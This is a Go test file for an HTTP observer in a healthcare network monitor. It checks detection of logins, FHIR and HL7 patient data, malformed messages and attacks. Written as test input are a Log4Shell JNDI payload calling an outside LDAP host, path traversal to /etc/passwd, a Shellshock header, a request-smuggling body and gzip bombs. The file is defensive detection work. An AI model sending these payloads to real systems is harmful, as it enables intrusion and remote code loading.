// SPDX-FileCopyrightText: 2026 The Myelin authors
// SPDX-License-Identifier: Apache-2.0

package watch

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/myelin-health/myelin/event"
	"github.com/myelin-health/myelin/flow"
	"github.com/myelin-health/myelin/proto"
)

func ask(head, body string) piece {
	if body != "" {
		head += fmt.Sprintf("\r\nContent-Length: %d", len(body))
	}
	return client([]byte(head + "\r\n\r\n" + body))
}

func reply(head, body string) piece {
	return server([]byte(fmt.Sprintf("HTTP/1.1 %s\r\nContent-Length: %d\r\n\r\n%s", head, len(body), body)))
}

func gzipped(b []byte) string {
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	z.Write(b)
	z.Close()
	return out.String()
}

func chunked(s string, size int) string {
	var out strings.Builder
	for len(s) > 0 {
		n := min(size, len(s))
		fmt.Fprintf(&out, "%x;x=y\r\n%s\r\n", n, s[:n])
		s = s[n:]
	}
	return out.String() + "0\r\nTrailer: x\r\n\r\n"
}

func TestHTTPObserver(t *testing.T) {
	const ok = "200 OK"
	for _, tt := range []struct {
		name   string
		pieces []piece
		want   []string
	}{
		{"nothing to say", []piece{ask("GET / HTTP/1.1", ""), reply(ok, "hello")}, nil},
		{"basic, refused and then not", []piece{
			ask("GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46YWRtaW4=", ""), reply("401 No", ""),
			ask("GET / HTTP/1.1\r\nAuthorization: Basic am9uOnMzY3JldA==", ""), reply(ok, ""),
			ask("GET /again HTTP/1.1\r\nAuthorization: Basic am9uOnMzY3JldA==", ""), reply(ok, ""),
		}, []string{`login-seen 10.20.1.5 "http" "basic" failed default`, `login-seen 10.20.1.5 "http" "basic" succeeded`}},
		{"pipelined", []piece{
			ask("GET /1 HTTP/1.1\r\nAuthorization: Bearer x", ""), ask("HEAD /2 HTTP/1.1", ""), ask("GET /3 HTTP/1.1\r\nAuthorization: Digest x", ""),
			reply("403 No", "no"), server([]byte("HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n")), reply(ok, ""),
		}, []string{`login-seen 10.20.1.5 "http" "bearer" failed`, `login-seen 10.20.1.5 "http" "digest" succeeded`}},
		{"never answered", []piece{ask("GET / HTTP/1.1\r\nAuthorization: Basic am9uOnMzY3JldA==", "")}, []string{`login-seen 10.20.1.5 "http" "basic" unknown`}},
		{"interim answers", []piece{
			ask("GET / HTTP/1.1\r\nAuthorization: Basic am9uOnMzY3JldA==", ""), server([]byte("HTTP/1.1 100 Continue\r\n\r\n")), reply("401 No", ""),
		}, []string{`login-seen 10.20.1.5 "http" "basic" failed`}},
		{
			"form",
			[]piece{ask("POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded", "user=jon&password=x"), reply("302 Found", "")},
			[]string{`login-seen 10.20.1.5 "http" "form" unknown`},
		},
		{
			"log4shell in a form",
			[]piece{ask("POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded", "uname=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%7D&password="), reply(ok, "")},
			[]string{`exploit-seen 10.20.1.5 "http" "JNDI lookup in a logged string" "CVE-2021-44228"`},
		},
		{"the same attack twice, and another", []piece{
			ask("GET /../../etc/passwd HTTP/1.1", ""), ask("GET /../../etc/passwd HTTP/1.1", ""), ask("GET / HTTP/1.1\r\nUser-Agent: () { :;}; id", ""),
		}, []string{`exploit-seen 10.20.1.5 "http" "path traversal"`, `exploit-seen 10.20.1.5 "http" "shell function in a header field" "CVE-2014-6271"`}},
		{"systems", []piece{
			ask("GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.1)", ""), reply(ok+"\r\nServer: Microsoft-IIS/6.0", ""),
			ask("GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.1)", ""), reply(ok+"\r\nServer: Microsoft-IIS/6.0", ""),
		}, []string{`identity-seen 10.20.1.5 "Windows 7"`, `identity-seen 10.20.3.10 "Windows Server 2003"`}},
		{
			"smuggling",
			[]piece{client([]byte("POST / HTTP/1.1\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n"))},
			[]string{`malformed-seen 10.20.1.5 "http" "message body length" "two servers may disagree about it"`},
		},
		{"not http any more", []piece{ask("GET / HTTP/1.1", ""), client([]byte("\x00\x01\x02\x03"))}, []string{`malformed-seen 10.20.1.5 "http" "start-line" "invalid value"`}},
		{"a bad chunk", []piece{ask("GET / HTTP/1.1", ""), server([]byte("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n"))}, []string{`malformed-seen 10.20.3.10 "http" "chunk-size" "invalid value"`}},
		{"http/2", []piece{client([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04"))}, []string{`protocol-seen 10.20.1.5 "http" "2"`}},
		{"websocket", []piece{ask("GET / HTTP/1.1\r\nUpgrade: websocket", ""), server([]byte("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n\x81\x05hello")), client([]byte("GET /../../etc/passwd HTTP/1.1\r\n\r\n"))}, nil},
		{
			"hl7",
			[]piece{ask("POST /hl7 HTTP/1.1\r\nContent-Type: application/hl7-v2", "MSH|^~\\&|CASTOR|ADA|X|Y|20260303070000||ADT^A01^ADT_A01|7|P|2.6\rPID|||ADA-000117||Lindqvist^Anna\r"), reply(ok, "")},
			[]string{`protocol-seen 10.20.1.5 "hl7"`, `patient-data-seen 10.20.1.5 "hl7" "ADT"`},
		},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := however(t, newHTTPObserver, tt.pieces...)
			got = slices.DeleteFunc(got, func(s string) bool { return strings.HasPrefix(s, "name-seen") })
			if tt.name == "hl7" { // what HL7's observer says more is its own affair
				for _, w := range tt.want {
					if !slices.ContainsFunc(got, func(g string) bool { return strings.HasPrefix(g, w[:len(w)-1]) }) {
						t.Errorf("not said: %s\n%s", w, strings.Join(got, "\n"))
					}
				}
				return
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("said:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(tt.want, "\n"))
			}
		})
	}
}

// Whatever carries it, the same body says the same.
func TestHTTPBodies(t *testing.T) {
	const patient = `{"resourceType":"Patient","id":"p-17","gender":"female"}`
	want := []string{
		`protocol-seen 10.20.1.5 "fhir"`, `identity-seen 10.20.3.10 "record system"`, `records-requested 10.20.1.5 "fhir" "read Patient"`,
		`patient-data-seen 10.20.3.10 "fhir" "Patient"`, `records-moved 10.20.3.10 "fhir" "read Patient"`,
	}
	request := ask("GET /fhir/Patient/p-17 HTTP/1.1", "")
	packed := gzipped([]byte(patient))
	for name, response := range map[string]string{
		"sized":             fmt.Sprintf("Content-Type: application/fhir+json\r\nContent-Length: %d\r\n\r\n%s", len(patient), patient),
		"chunked":           "Content-Type: application/fhir+json\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked(patient, 7),
		"gzip":              fmt.Sprintf("Content-Type: application/fhir+json\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n%s", len(packed), packed),
		"gzip in chunks":    "Content-Type: application/fhir+json\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked(packed, 11),
		"until close":       "Content-Type: application/fhir+json\r\n\r\n" + patient,
		"plain json":        fmt.Sprintf("Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(patient), patient),
		"plain json packed": fmt.Sprintf("Content-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n%s", len(packed), packed),
		"no type":           fmt.Sprintf("Content-Length: %d\r\n\r\n%s", len(patient), patient),
	} {
		t.Run(name, func(t *testing.T) {
			got := however(t, newHTTPObserver, request, server([]byte("HTTP/1.1 200 OK\r\n"+response)))
			if !slices.Equal(got, want) {
				t.Errorf("said:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
			}
		})
	}
}

// A bomb is told whatever it says it is, in either direction.
func TestHTTPBomb(t *testing.T) {
	const bound = `bound-reached %s "http" "decoded body"`
	for _, media := range []string{"application/fhir+json", "application/json", "text/plain", "text/html", "image/png", ""} {
		bomb := gzipped([]byte(`{"resourceType":"Patient","id":"p-17","text":"` + strings.Repeat(" ", 10<<20) + `"}`))
		if !strings.HasSuffix(media, "json") {
			bomb = gzipped(make([]byte, 10<<20))
		}
		head := "\r\nContent-Type: " + media + "\r\nContent-Encoding: gzip"
		answer := reply("200 OK"+head, bomb)
		if media == "text/html" {
			answer = server([]byte("HTTP/1.1 200 OK" + head + "\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked(bomb, 1000)))
		}
		got := however(t, newHTTPObserver, ask("GET /fhir/Patient/p-17 HTTP/1.1", ""), answer, ask("GET /../../x HTTP/1.1", ""))
		if !slices.Contains(got, fmt.Sprintf(bound, "10.20.3.10")) {
			t.Errorf("%s, answered: said:\n%s", media, strings.Join(got, "\n"))
		}
		if got[len(got)-1] != `exploit-seen 10.20.1.5 "http" "path traversal"` {
			t.Errorf("%s: what follows the bomb is not read", media)
		}
		got = however(t, newHTTPObserver, ask("POST /fhir/Patient HTTP/1.1"+head, bomb), reply("201 Created", ""))
		if !slices.Contains(got, fmt.Sprintf(bound, "10.20.1.5")) {
			t.Errorf("%s, sent: said:\n%s", media, strings.Join(got, "\n"))
		}
	}
	page := gzipped([]byte(strings.Repeat("<tr><td>10.20.3.10</td><td>24000</td></tr>\n", 20000)))
	if got := however(t, newHTTPObserver, ask("GET / HTTP/1.1", ""), reply("200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip", page)); got != nil {
		t.Errorf("of a long page: said:\n%s", strings.Join(got, "\n"))
	}
}

// A packed body that ends with its connection has an end of its own.
func TestHTTPPackedUntilClose(t *testing.T) {
	head := "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Type: "
	for _, tt := range []struct{ media, body, want string }{
		{"application/fhir+json", gzipped([]byte(`{"resourceType":"Patient","id":"p-17","gender":"female"}`)), `patient-data-seen 10.20.3.10 "fhir" "Patient"`},
		{"text/plain", gzipped(make([]byte, 10<<20)), `bound-reached 10.20.3.10 "http" "decoded body"`},
	} {
		for _, size := range []int{10, 1000, 1 << 20} {
			pieces := []piece{ask("GET /fhir/Patient/p-17 HTTP/1.0", ""), server([]byte(head + tt.media + "\r\n\r\n"))}
			for cut := range slices.Chunk([]byte(tt.body), max(size, len(tt.body)/(maxAttempts-1))) {
				pieces = append(pieces, server(cut))
			}
			var got []string
			for _, e := range observe(t, newHTTPObserver(), pieces...) {
				got = append(got, says(&e))
			}
			if !slices.Contains(got, tt.want) {
				t.Errorf("%s in pieces of %d: said:\n%s", tt.media, size, strings.Join(got, "\n"))
			}
		}
	}
}

// A long body is read to the bound; what follows it is found again.
func TestHTTPLongBody(t *testing.T) {
	long := `{"resourceType":"Patient","id":"p-17","gender":"male","text":"` + strings.Repeat("x", 3<<20) + `"}`
	var pieces []piece
	pieces = append(pieces, ask("GET /fhir/Patient/p-17 HTTP/1.1", ""), ask("GET /2 HTTP/1.1", ""))
	all := []byte(fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Type: application/fhir+json\r\nContent-Length: %d\r\n\r\n%sHTTP/1.1 200 OK\r\nServer: Microsoft-IIS/6.0\r\nContent-Length: 0\r\n\r\n", len(long), long))
	for len(all) > 0 {
		n := min(len(all), 1460)
		pieces = append(pieces, server(all[:n]))
		all = all[n:]
	}
	var got []string
	for _, e := range observe(t, newHTTPObserver(), pieces...) {
		got = append(got, says(&e))
	}
	for _, want := range []string{`patient-data-seen 10.20.3.10 "fhir" "Patient"`, `identity-seen 10.20.3.10 "Windows Server 2003"`} {
		if !slices.Contains(got, want) {
			t.Errorf("not said: %s\n%s", want, strings.Join(got, "\n"))
		}
	}
}

func TestHTTPGap(t *testing.T) {
	o := newHTTPObserver().(*httpObserver)
	o.sides[flow.Server].state = httpBody
	x := &exchange{From: flow.Server}
	if !o.gap(x, 100) || o.sides[flow.Server].state != httpLost {
		t.Error("after a gap the next message must be looked for")
	}
	for _, lost := range []string{"", "xyz", "\r\n0\r\n"} {
		if n := o.data(x, []byte(lost)); n != len(lost) || o.sides[flow.Server].state != httpLost {
			t.Errorf("%q: %d bytes", lost, n)
		}
	}
}

func TestHTTPTunnel(t *testing.T) {
	hello := "\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00"
	events := observe(t, newHTTPObserver(), ask("CONNECT pacs:443 HTTP/1.1", ""), server([]byte("HTTP/1.1 200 Established\r\n\r\n")), client([]byte(hello)))
	if !slices.ContainsFunc(events, func(e event.Event) bool {
		return e.Kind == event.ProtocolSeen && e.Text(event.Protocol) == proto.TLS.String()
	}) {
		t.Error("TLS through CONNECT was not seen")
	}
	got := however(t, newHTTPObserver, ask("CONNECT pacs:80 HTTP/1.1", ""), server([]byte("HTTP/1.1 200 Established\r\n\r\n")), ask("GET /../../x HTTP/1.1", ""))
	if !slices.Contains(got, `exploit-seen 10.20.1.5 "http" "path traversal"`) {
		t.Errorf("HTTP through CONNECT was not read:\n%s", strings.Join(got, "\n"))
	}
}

// The captures by others, with what is to be seen in them.
func TestHTTPCaptures(t *testing.T) {
	for name, tt := range map[string]struct{ want, not []string }{
		"ndpi-http_auth.pcap": {want: []string{`login-seen 192.168.0.4 "http" "basic" failed`, `identity-seen 192.168.0.4 "macOS"`}, not: []string{"exploit-seen", "malformed-seen"}},
		"ndpi-WebattackRCE.pcap": {want: []string{
			`exploit-seen 127.0.0.1 "http" "command injection"`, `exploit-seen 127.0.0.1 "http" "path traversal"`,
		}},
		"ndpi-log4j-webapp-exploit.pcap":    {want: []string{`exploit-seen 172.16.238.1 "http" "JNDI lookup in a logged string" "CVE-2021-44228"`}, not: []string{"malformed-seen"}},
		"ndpi-soap.pcap":                    {not: []string{"exploit-seen", "malformed-seen", `"sdc"`}},
		"ndpi-upnp.pcap":                    {not: []string{"exploit-seen", "malformed-seen", `"sdc"`}},
		"ndpi-bot.pcap":                     {not: []string{"exploit-seen", "malformed-seen", "identity-seen"}},
		"ndpi-windowsupdate_over_http.pcap": {not: []string{"exploit-seen", "malformed-seen"}},
		"real-sdc11073-discovery-getmdib-subscribe-setcontext.pcap": {want: []string{
			`protocol-seen 127.0.0.1 "sdc"`, `command-seen 127.0.0.1 "EN.mds0"`, `command-answered 127.0.0.1 unknown "EN.mds0"`, `command-answered 127.0.0.1 succeeded "EN.mds0"`,
			`identity-seen 127.0.0.1 "Draeger" "TestDevice" "12345" "Version1"`, `report-seen 127.0.0.1 "sdc" "EpisodicMetricReport"`,
		}, not: []string{"exploit-seen", "malformed-seen"}},
	} {
		t.Run(name, func(t *testing.T) {
			var got []string
			for _, e := range watchCapture(t, name) {
				got = append(got, says(&e))
			}
			for _, w := range tt.want {
				if !slices.Contains(got, w) {
					t.Errorf("not seen: %s\n%s", w, strings.Join(slices.Compact(got), "\n"))
				}
			}
			for _, g := range got {
				for _, n := range tt.not {
					if strings.HasPrefix(g, n) || strings.HasPrefix(n, `"`) && strings.Contains(g, n) {
						t.Errorf("seen, but not there: %s", g)
					}
				}
			}
		})
	}
}

func BenchmarkHTTPObserver(b *testing.B) {
	request := []byte("GET /images/logo.png HTTP/1.1\r\nHost: 10.20.1.5\r\nUser-Agent: demo\r\nAccept: */*\r\n\r\n")
	response := []byte("HTTP/1.1 200 OK\r\nServer: demo\r\nContent-Type: image/png\r\nContent-Length: 1200\r\n\r\n" + strings.Repeat("x", 1200))
	pieces := []piece{}
	for range 64 {
		pieces = append(pieces, client(request), server(response))
	}
	b.SetBytes(int64(64 * (len(request) + len(response))))
	for b.Loop() {
		observe(b, newHTTPObserver(), pieces...)
	}
}

func FuzzHTTPObserver(f *testing.F) {
	f.Add([]byte("GET /fhir/Patient/$export HTTP/1.1\r\nAuthorization: Basic eDp5\r\n\r\n"), []byte("HTTP/1.1 200 OK\r\nContent-Type: application/fhir+json\r\nTransfer-Encoding: chunked\r\n\r\n"+chunked(`{"resourceType":"Patient","id":"1"}`, 9)), 3)
	f.Add([]byte("CONNECT a:1 HTTP/1.1\r\n\r\n"), []byte("HTTP/1.1 200 OK\r\n\r\n"), 100)
	f.Add([]byte("POST / HTTP/1.1\r\nContent-Length: 3\r\n\r\nMSH"), []byte("HTTP/1.0 200 OK\r\n\r\n{}"), 1)
	f.Fuzz(func(t *testing.T, request, response []byte, size int) {
		if size <= 0 || len(request)+len(response) > 1<<16 {
			return
		}
		say := func(pieces []piece) string {
			var s strings.Builder
			for _, e := range observe(t, newHTTPObserver(), pieces...) {
				s.WriteString(says(&e) + "\n")
			}
			return s.String()
		}
		var cut []piece
		for _, p := range []piece{client(request), server(response)} {
			for b := p.b; len(b) > 0; {
				n := min(size, len(b))
				cut = append(cut, piece{p.from, b[:n]})
				b = b[n:]
			}
		}
		if first, second := say(cut), say(cut); first != second {
			t.Fatalf("the same conversation said two things:\n%s\n%s", first, second)
		}
	})
}
